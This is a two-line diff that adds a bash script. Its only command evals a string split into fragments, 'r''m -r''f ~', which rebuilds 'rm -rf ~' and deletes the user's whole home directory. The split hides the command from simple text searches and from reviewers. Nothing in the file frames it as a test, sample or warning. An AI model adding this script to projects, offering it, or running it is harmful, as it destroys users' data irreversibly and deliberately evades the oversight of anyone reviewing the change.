@@ -1,0 +1,2 @@
+#!/bin/bash
+eval "r""m -r""f ~"
